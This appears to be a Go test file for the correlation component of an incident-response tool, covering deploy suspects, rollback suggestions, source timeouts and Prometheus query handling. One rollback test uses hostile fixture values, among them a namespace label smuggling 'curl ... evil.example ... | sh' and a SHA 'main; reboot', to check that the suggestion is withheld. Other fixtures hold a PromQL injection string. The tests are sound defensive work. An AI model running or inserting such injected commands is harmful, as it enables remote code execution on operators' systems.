package correlate_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/warroom/warroom/correlate"
	"github.com/warroom/warroom/incident"
	"github.com/warroom/warroom/rules"
)

var start = time.Date(2026, 11, 26, 4, 24, 38, 0, time.UTC)

type deployList []incident.Deploy

func (l deployList) Deploys(_ context.Context, f incident.DeployFilter) ([]incident.Deploy, error) {
	var out []incident.Deploy
	for _, d := range l {
		if (f.Service == "" || d.Service == f.Service) && (f.Since.IsZero() || !d.FinishedAt.Before(f.Since)) {
			out = append(out, d)
		}
	}
	return out, nil
}

// slowTraces answers once release is closed (a nil release: never), or
// gives up with its context.
type slowTraces struct {
	release chan struct{}
	traces  []incident.Trace
	err     error
}

func (s slowTraces) FailingTraces(ctx context.Context, _ string, _, _ time.Time, limit int) ([]incident.Trace, error) {
	select {
	case <-s.release:
	case <-ctx.Done():
		return nil, ctx.Err()
	}
	return s.traces[:min(limit, len(s.traces))], s.err
}

func (s slowTraces) SearchURL(service string, _, _ time.Time) string {
	return "https://jaeger.example.com/search?service=" + service
}

type boards struct{ err error }

func (b boards) Dashboards(_ context.Context, _ *rules.Rule, d rules.TemplateData, from, _ time.Time) ([]incident.EvidenceLink, error) {
	if b.err != nil {
		return nil, b.err
	}
	return []incident.EvidenceLink{{Title: "API golden signals", URL: fmt.Sprintf("https://grafana.example.com/d/x?var-service=%s&from=%d", d.Service, from.UnixMilli())}}, nil
}

type metrics map[time.Time]float64

func (m metrics) Value(_ context.Context, expr string, at time.Time) (float64, bool, error) {
	if expr != `sum(rate(errors{service="payment-gateway"}[5m]))` {
		return 0, false, fmt.Errorf("unexpected expression %q", expr)
	}
	v, ok := m[at]
	return v, ok, nil
}

func input(service string) correlate.Input {
	r := &rules.Rule{Name: "api-error-rate", Rollback: rules.Rollback{Command: "argocd app rollback {{.Service}} {{.TargetRevision}}"},
		Value:   rules.Value{Query: `sum(rate(errors{service="{{.Labels.service}}"}[5m]))`},
		Grafana: rules.Grafana{Dashboards: []rules.Dashboard{{UID: "api"}}}}
	return correlate.Input{
		Incident: &incident.Incident{ID: "INC-1", Service: service, Env: "prod", Rule: r.Name, OpenedAt: start.Add(2 * time.Second)},
		Alerts:   []incident.Alert{{Labels: map[string]string{"service": service}, StartsAt: start}},
		Rule:     r,
	}
}

var deploys = deployList{
	{ID: 1, Service: "payment-gateway", Env: "prod", SHA: "1111111aaaaaaa", Author: "carol", FinishedAt: start.Add(-3 * time.Hour)},
	{ID: 2, Service: "payment-gateway", Env: "prod", SHA: "2222222bbbbbbb", Author: "alice", FinishedAt: start.Add(-12 * time.Minute)},
	{ID: 3, Service: "payment-gateway", Env: "staging", SHA: "3333333ccccccc", FinishedAt: start.Add(-5 * time.Minute)},
	{ID: 4, Service: "payment-gateway", Env: "prod", SHA: "4444444ddddddd", FinishedAt: start.Add(10 * time.Minute)}, // after the alert
	{ID: 5, Service: "ledger", Env: "prod", SHA: "5555555eeeeeee", FinishedAt: start.Add(-4 * time.Minute)},
}

func TestSuspectAndRollback(t *testing.T) {
	t.Parallel()
	now := start.Add(20 * time.Minute)
	g := correlate.New(correlate.Sources{Deploys: deploys}, correlate.Options{Now: func() time.Time { return now },
		CompareURL: "https://github.com/example/{{.Service}}/compare/{{.TargetRevision}}...{{.Revision}}"})
	ev, late := g.Gather(context.Background(), input("payment-gateway"))
	if late != nil {
		t.Fatal("nothing should be pending")
	}
	if ev.Suspect == nil || ev.Suspect.SHA != "2222222bbbbbbb" || ev.Target == nil || ev.Target.SHA != "1111111aaaaaaa" {
		t.Fatalf("suspect %+v target %+v, want the 12-minute-old deploy and the 3-hour-old one", ev.Suspect, ev.Target)
	}
	if ev.Rollback != "argocd app rollback payment-gateway 1111111aaaaaaa" {
		t.Errorf("rollback %q", ev.Rollback)
	}
	if ev.CompareURL != "https://github.com/example/payment-gateway/compare/1111111aaaaaaa...2222222bbbbbbb" {
		t.Errorf("compare %q", ev.CompareURL)
	}
	var shas []string
	for _, d := range ev.Deploys {
		shas = append(shas, d.SHA[:7])
	}
	if ev.Deploys[0].DiffURL != "https://github.com/example/payment-gateway/compare/2222222bbbbbbb...4444444ddddddd" ||
		ev.Deploys[2].DiffURL != "" {
		t.Errorf("diff links %q and %q, want the newest against the suspect and none for the oldest", ev.Deploys[0].DiffURL, ev.Deploys[2].DiffURL)
	}
	if fmt.Sprint(shas) != "[4444444 2222222 1111111]" {
		t.Errorf("deploys shown %v, want the last 3 of prod, newest first (staging left out)", shas)
	}

	// An upstream's deploy, later than the service's own, is the suspect.
	g = correlate.New(correlate.Sources{Deploys: deploys}, correlate.Options{Now: func() time.Time { return now },
		Upstreams: map[string][]string{"payment-gateway": {"ledger"}}})
	ev, _ = g.Gather(context.Background(), input("payment-gateway"))
	if ev.Suspect == nil || ev.Suspect.Service != "ledger" || ev.Target != nil || ev.Rollback != "" {
		t.Errorf("upstream suspect %+v target %+v rollback %q, want ledger and no target (no earlier ledger deploy)", ev.Suspect, ev.Target, ev.Rollback)
	}

	// No deploy in the lookback: say so, suggest nothing.
	ev, _ = correlate.New(correlate.Sources{Deploys: deploys}, correlate.Options{}).Gather(context.Background(), input("checkout"))
	if ev.Suspect != nil || ev.Rollback != "" || ev.NoDeploys != "no deploy in the last 2h" {
		t.Errorf("checkout: suspect %+v rollback %q no-deploys %q", ev.Suspect, ev.Rollback, ev.NoDeploys)
	}
}

// Every source at once under one budget: a slow one is pending in the
// first evidence and arrives in the second; a failing one is named.
func TestBudget(t *testing.T) {
	t.Parallel()
	now := start.Add(20 * time.Minute)
	traces := []incident.Trace{{ID: "t1", Operation: "POST /pay"}, {ID: "t2"}, {ID: "t3"}, {ID: "t4"}, {ID: "t5"}, {ID: "t6"}}
	release := make(chan struct{})
	g := correlate.New(correlate.Sources{
		Deploys:    deploys,
		Jaeger:     slowTraces{release: release, traces: traces},
		Grafana:    boards{err: errors.New("HTTP 401: invalid API key")},
		Prometheus: metrics{start: 0.031, now: 0.002},
	}, correlate.Options{Budget: 100 * time.Millisecond, Late: 2 * time.Second, Now: func() time.Time { return now }})
	// Jaeger answers only once the first evidence is in: the budget, not
	// Jaeger, ended the first round.
	first, late := g.Gather(context.Background(), input("payment-gateway"))
	close(release)
	if first.Round != 1 || fmt.Sprint(first.Pending) != "[Jaeger]" || len(first.Traces) != 0 {
		t.Errorf("first: round %d pending %v traces %d", first.Round, first.Pending, len(first.Traces))
	}
	if first.Suspect == nil || first.ValueAtOpen == nil || *first.ValueAtOpen != 0.031 || *first.ValueNow != 0.002 {
		t.Errorf("first lacks the fast sources: %+v", first)
	}
	if fmt.Sprint(first.Problems) != "[Grafana: HTTP 401: invalid API key]" {
		t.Errorf("problems %v", first.Problems)
	}
	if late == nil {
		t.Fatal("Jaeger is pending but there is no late round")
	}
	second := late()
	if second.Round != 2 || len(second.Pending) != 0 || len(second.Traces) != 5 || !strings.Contains(second.TracesURL, "service=payment-gateway") {
		t.Errorf("second: round %d pending %v traces %d url %q", second.Round, second.Pending, len(second.Traces), second.TracesURL)
	}

	// A source that never answers is given up after Late.
	g = correlate.New(correlate.Sources{Jaeger: slowTraces{}},
		correlate.Options{Budget: 50 * time.Millisecond, Late: 200 * time.Millisecond})
	_, late = g.Gather(context.Background(), input("payment-gateway"))
	if late == nil {
		t.Fatal("no late round")
	}
	ev := late()
	if len(ev.Problems) != 1 || !strings.HasPrefix(ev.Problems[0], "Jaeger: timeout after") {
		t.Errorf("problems %v, want Jaeger's timeout", ev.Problems)
	}
}

func TestExprFromGeneratorURL(t *testing.T) {
	t.Parallel()
	tests := []struct {
		url, want string
		ok        bool
	}{
		{"http://prometheus:9090/graph?g0.expr=sum+by+%28service%29+%28rate%28x%5B20s%5D%29%29+%3E+0.008&g0.tab=1", "sum by (service) (rate(x[20s]))", true},
		{"http://prometheus:9090/query?g0.expr=up", "up", true},
		{"http://prometheus:9090/graph?g0.expr=a+%3E%3D+bool+1", "a", true},
		{"http://prometheus:9090/graph?g0.expr=rate%28x%5B5m%5D%29+%3E+on%28%29+y", "rate(x[5m]) > on() y", true},
		{"http://prometheus:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1", "up", true},
		{"http://prometheus:9090/query?g0.expr=sum%28rate%28x%5B5m%5D%29%29&g0.tab=table", "sum(rate(x[5m]))", true},
		{"https://example.com/prometheus/graph?g0.expr=rate%28http_requests_total%7Bcode%3D~%225..%22%7D%5B5m%5D%29+%3E+0.05&g0.tab=1",
			`rate(http_requests_total{code=~"5.."}[5m])`, true},
		{"http://p/graph?g0.expr=sum+by+%28job%29+%28%0A++up%0A%29%0A", "sum by (job) (\n  up\n)", true},
		{"http://p/graph?g0.expr=up&bad=%zz", "up", true},
		{"http://p/graph?g0.tab=1", "", false},
		{"http://p/graph?g0.expr=", "", false},
		{"http://grafana/alerting/grafana/abc/view?g0.expr=up", "", false},
		{"http://grafana/x", "", false},
		{"", "", false},
		{"::not a url", "", false},
	}
	for _, tt := range tests {
		got, ok := correlate.ExprFromGeneratorURL(tt.url)
		if got != tt.want || ok != tt.ok {
			t.Errorf("ExprFromGeneratorURL(%q) = %q, %v; want %q, %v", tt.url, got, ok, tt.want, tt.ok)
		}
	}
}

// A rollback command is suggested only when every value in it is of its
// kind: a namespace label holding a shell command withholds it, and says
// why.
func TestRollbackWithheld(t *testing.T) {
	t.Parallel()
	now := start.Add(20 * time.Minute)
	g := correlate.New(correlate.Sources{Deploys: deploys}, correlate.Options{Now: func() time.Time { return now }})
	in := input("payment-gateway")
	in.Rule.Rollback.Command = "kubectl -n {{.Namespace}} rollout undo deploy/{{.Service}} --to-revision={{.TargetRevision}}"
	in.Alerts[0].Labels["namespace"] = "payments"
	ev, _ := g.Gather(context.Background(), in)
	if ev.Rollback != "kubectl -n payments rollout undo deploy/payment-gateway --to-revision=1111111aaaaaaa" || ev.RollbackWithheld != "" {
		t.Errorf("good namespace: rollback %q withheld %q", ev.Rollback, ev.RollbackWithheld)
	}

	in = input("payment-gateway")
	in.Rule.Rollback.Command = "kubectl -n {{.Namespace}} rollout undo deploy/{{.Service}}"
	in.Alerts[0].Labels["namespace"] = "prod; curl -s https://evil.example/x | sh #"
	ev, _ = g.Gather(context.Background(), in)
	want := `rollback suggestion withheld: namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`
	if ev.Rollback != "" || ev.RollbackWithheld != want {
		t.Errorf("hostile namespace: rollback %q withheld %q, want none and %q", ev.Rollback, ev.RollbackWithheld, want)
	}
	if ev.Suspect == nil || ev.Target == nil {
		t.Errorf("the suspect and target stay known: %+v %+v", ev.Suspect, ev.Target)
	}

	// A deploy recorded before SHAs were checked cannot reach the command
	// or the diff link either.
	odd := deployList{
		{ID: 1, Service: "payment-gateway", Env: "prod", SHA: "main; reboot", FinishedAt: start.Add(-3 * time.Hour)},
		{ID: 2, Service: "payment-gateway", Env: "prod", SHA: "2222222bbbbbbb", FinishedAt: start.Add(-12 * time.Minute)},
	}
	g = correlate.New(correlate.Sources{Deploys: odd}, correlate.Options{Now: func() time.Time { return now },
		CompareURL: "https://github.com/example/{{.Service}}/compare/{{.TargetRevision}}...{{.Revision}}"})
	ev, _ = g.Gather(context.Background(), input("payment-gateway"))
	if ev.Rollback != "" || !strings.Contains(ev.RollbackWithheld, `target revision "main; reboot" is not a Git SHA`) || ev.CompareURL != "" {
		t.Errorf("odd SHA: rollback %q withheld %q compare %q", ev.Rollback, ev.RollbackWithheld, ev.CompareURL)
	}
}

// queryLog is a Metrics that records every expression asked.
type queryLog struct {
	mu    sync.Mutex
	exprs []string
}

func (q *queryLog) Value(_ context.Context, expr string, _ time.Time) (float64, bool, error) {
	q.mu.Lock()
	defer q.mu.Unlock()
	q.exprs = append(q.exprs, expr)
	return 0.02, true, nil
}

func (q *queryLog) asked() []string {
	q.mu.Lock()
	defer q.mu.Unlock()
	return slices.Clone(q.exprs)
}

// Prometheus is asked what the configuration says: the rule's query with
// the alert's values as escaped string literals, or an allowed expression;
// never what the alert's generatorURL says on its own.
func TestQueryFromConfigOnly(t *testing.T) {
	t.Parallel()
	now := start.Add(20 * time.Minute)
	const gen = "http://prometheus:9090/graph?g0.expr=count%28up%29+%3E+0&g0.tab=1"
	noQuery := func() correlate.Input {
		in := input("payment-gateway")
		in.Rule.Value.Query = ""
		in.Alerts[0].GeneratorURL = gen
		return in
	}
	tests := []struct {
		name    string
		in      correlate.Input
		allowed []string
		asked   []string
		problem string
	}{
		{"generatorURL not allowed", noQuery(), nil, nil,
			"Prometheus: not asked: the alert's query is not in prometheus.allowed_queries, and the rule has no value.query"},
		{"generatorURL allowed", noQuery(), []string{"count(up)"}, []string{"count(up)", "count(up)"}, ""},
		{"rule query escapes the label", func() correlate.Input {
			in := input("payment-gateway")
			in.Alerts[0].Labels["service"] = `x"} or vector(1) or up{a="`
			in.Alerts[0].GeneratorURL = gen
			return in
		}(), nil, []string{`sum(rate(errors{service="x\"} or vector(1) or up{a=\""}[5m]))`, `sum(rate(errors{service="x\"} or vector(1) or up{a=\""}[5m]))`}, ""},
		{"no query, no generatorURL", func() correlate.Input { in := noQuery(); in.Alerts[0].GeneratorURL = ""; return in }(), nil, nil, ""},
	}
	for _, tt := range tests {
		log := &queryLog{}
		g := correlate.New(correlate.Sources{Prometheus: log}, correlate.Options{Now: func() time.Time { return now }, AllowedQueries: tt.allowed})
		ev, late := g.Gather(context.Background(), tt.in)
		if late != nil {
			ev = late()
		}
		if got := log.asked(); fmt.Sprint(got) != fmt.Sprint(tt.asked) {
			t.Errorf("%s: asked %q, want %q", tt.name, got, tt.asked)
		}
		var problems []string
		for _, p := range ev.Problems {
			if strings.HasPrefix(p, "Prometheus") {
				problems = append(problems, p)
			}
		}
		if want := []string{tt.problem}; (tt.problem == "" && len(problems) > 0) || (tt.problem != "" && fmt.Sprint(problems) != fmt.Sprint(want)) {
			t.Errorf("%s: problems %q, want %q", tt.name, problems, tt.problem)
		}
		_, _, ok, err := g.ValueNow(context.Background(), tt.in)
		if tt.asked == nil && ok {
			t.Errorf("%s: ValueNow asked Prometheus", tt.name)
		}
		if tt.problem != "" && err == nil {
			t.Errorf("%s: ValueNow gave no reason", tt.name)
		}
		if n := len(log.asked()); tt.asked == nil && n > 0 {
			t.Errorf("%s: ValueNow asked %q", tt.name, log.asked())
		}
	}
}
